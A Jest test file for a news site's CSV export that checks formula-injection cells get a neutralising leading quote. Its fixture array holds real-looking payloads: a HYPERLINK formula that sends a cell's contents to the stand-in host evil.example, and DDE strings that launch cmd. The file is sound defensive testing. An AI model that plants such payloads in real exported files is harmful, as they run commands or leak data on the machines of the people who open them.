/**
 * CSV formula injection (issue 13, point 6): a headline or byline a site controls that starts with =, +, -, @, tab
 * or carriage return is written with a leading single quote (OWASP), so a spreadsheet shows it as text instead of
 * running it; numbers stay numbers, ordinary text is untouched, and the file still parses back.
 */
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { csvField, exportCsv } from '../src/export/index.js';
import { addVersions } from './helpers/web-seed.js';
import { tmpStore, type TmpStore } from './helpers/tmp.js';

const HOSTILE = [
  ['=HYPERLINK("https://evil.example/?d="&A1,"Click for the full story")', '=cmd|\' /C calc\'!A0'],
  ['+SUM(1+1)*cmd|\' /C calc\'!A0', '+44 20 7946 0000'],
  ['-2+3+cmd|\' /C calc\'!A0', '-Staff reporter'],
  ['@SUM(1+1)*cmd|\' /C calc\'!A0', '@newsdesk'],
  ['\t=1+1', '\r=1+1'],
] as const;

let t: TmpStore;
let rows: Array<Record<string, string>>;
let raw: string;

beforeAll(async () => {
  t = await tmpStore();
  const { article } = await t.store.insertArticle('https://news.example.com/formula', '2024-05-01T08:00:00.000Z');
  await addVersions(t.store, article.id, HOSTILE.map(([title, byline], i) => ({
    minutes: i * 60, title, byline, text: `Paragraph ${i}: -5 degrees and +3 points; a@b.example wrote = nothing.`,
  })));
  const { article: plain } = await t.store.insertArticle('https://news.example.com/plain', '2024-05-01T08:00:00.000Z');
  await addVersions(t.store, plain.id, [{ minutes: 0, title: 'An ordinary headline, with a comma', byline: 'Ana Ruiz', text: 'Plain text.' }]);
  const chunks: Buffer[] = [];
  await exportCsv(t.store, new Writable({ write(c: Buffer, _e, cb) { chunks.push(c); cb(); } }));
  raw = Buffer.concat(chunks).toString('utf8');
  rows = parse(raw, { columns: true }) as Array<Record<string, string>>;
});
afterAll(async () => t?.cleanup());

describe('CSV formula injection', () => {
  it('prefixes a single quote to every text cell that starts with =, +, -, @, tab or CR', () => {
    const hostile = rows.filter((r) => r.url === 'https://news.example.com/formula');
    expect(hostile).toHaveLength(HOSTILE.length);
    for (const [i, [title, byline]] of HOSTILE.entries()) {
      expect(hostile[i]!.title).toBe(`'${title}`);
      expect(hostile[i]!.byline).toBe(`'${byline}`);
    }
    // No cell of the file starts (after its opening quote, if any) with a formula character.
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves ordinary text and numbers alone', () => {
    const plain = rows.find((r) => r.url === 'https://news.example.com/plain')!;
    expect(plain.title).toBe('An ordinary headline, with a comma');
    expect(plain.byline).toBe('Ana Ruiz');
    expect(plain.word_count).toBe('2');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(0.25)).toBe('0.25');
    expect(csvField(false)).toBe('false');
    expect(csvField('-5')).toBe("'-5");
    expect(csvField('=1,2')).toBe('"\'=1,2"');
    expect(csvField('a=b')).toBe('a=b');
  });
});
